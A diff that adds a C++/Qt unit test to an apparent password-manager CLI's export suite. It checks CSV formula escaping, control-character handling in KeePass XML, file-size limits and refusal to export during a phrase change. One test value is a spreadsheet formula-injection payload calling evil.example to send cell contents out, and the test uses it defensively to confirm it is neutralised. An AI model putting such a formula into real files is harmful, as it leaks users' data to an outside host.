@@ -92,6 +92,7 @@ private slots:
     void bitwardenFormats();
     void lessPassBackAgain();
     void refusalsAndModes();
+    void cellsAndLimits();
     void window();
 
 private:
@@ -204,6 +205,42 @@ void TestExport::refusalsAndModes()
     // An empty profile file: no entries, and no phrase asked for.
     writeFile(home->profileFile(), "");
     QCOMPARE(QJsonDocument::fromJson(cli({"export", "--format=bitwarden-json"}).out).object().value("items").toArray().size(), 0);
+}
+
+void TestExport::cellsAndLimits()
+{
+    // A name a spreadsheet would run gets a leading "'"; the password stays whole.
+    const QString formula = QStringLiteral("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")");
+    writeFile(home->profileFile(), (formula + QStringLiteral("|16|strong\r\n-minus|16|strong\r\nesc\x1bname|16|strong\r\n")).toUtf8());
+    const QList<QStringList> records = csvRecords(QString::fromUtf8(cli({"export", "--format=bitwarden-csv"}, "hello").out));
+    QCOMPARE(records.size(), 4);
+    QCOMPARE(records.at(1).at(3), QLatin1Char('\'') + formula);
+    QCOMPARE(records.at(1).at(4), QLatin1Char('\'') + formula + QStringLiteral("|16|strong"));
+    QCOMPARE(records.at(2).at(3), QStringLiteral("'-minus"));
+    for (int row = 1; row <= 3; ++row)
+        QCOMPARE(records.at(row).at(9), derived(records.at(row).at(4).mid(records.at(row).at(4).startsWith('\'') ? 1 : 0)));
+    // KeePass's XML cannot hold control characters: said, by the profile's name.
+    const Run xml = cli({"export", "--format=keepass-xml"}, "hello");
+    QCOMPARE(xml.code, 0);
+    QVERIFY2(xml.err.contains("\"esc\\x1Bname\": its control characters are left out"), xml.err.constData());
+
+    // Past the file size limit: no kill by SIGXFSZ, no temporary file with passwords left, exit 3.
+    const QString target = home->path() + QStringLiteral("/o1.xml");
+    const Run limited = runProgram(QStringLiteral("/bin/sh"), {"-c", "ulimit -f 1; exec \"$0\" export --format=keepass-xml --output=\"$1\"",
+                                                              QStringLiteral(QUORVANE_CLI), target}, QByteArray(3000, 'p'));
+    QCOMPARE(limited.code, 3);
+    QVERIFY2(limited.err.contains("nothing was written"), limited.err.constData());
+    QCOMPARE(QDir(home->path()).entryList({"o1.xml*"}, QDir::Files | QDir::Hidden), QStringList());
+
+    // During a change of the secret phrase (seen from the lines' marks alone): no password
+    // export, since no one phrase makes every site's password; LessPass's file has none.
+    writeFile(home->profileFile(), "bank.example|16|strong|#2\r\nshop.example|16|strong\r\n");
+    for (const char *format : {"--format=bitwarden-csv", "--format=keepass-xml", "--format=bitwarden-json"}) {
+        const Run r = cli({"export", format}, "new phrase");
+        QCOMPARE(r.code, 1);
+        QVERIFY2(r.err.contains("1 profile still uses the previous phrase and 1 the new one") && r.out.isEmpty(), r.err.constData());
+    }
+    QCOMPARE(cli({"export", "--format=lesspass-json"}).code, 0);
 }
 
 void TestExport::window()
